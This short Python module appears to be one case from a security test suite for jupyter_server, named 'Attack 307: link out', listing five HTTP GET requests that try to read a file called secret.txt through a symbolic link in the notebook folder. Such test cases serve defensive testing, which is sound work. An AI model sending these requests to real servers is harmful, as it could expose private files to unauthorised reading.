"""Attack 307: link out"""

IDEA = "Read through a link in the notebook folder."
SOURCE = "jupyter_server, symbolic links"
REQUESTS = [
    ("GET", "api/contents/link.txt", None),
    ("GET", "files/link.txt", None),
    ("GET", "api/contents/folder/secret.txt", None),
    ("GET", "files/folder/secret.txt", None),
    ("GET", "view/link.txt", None),
]
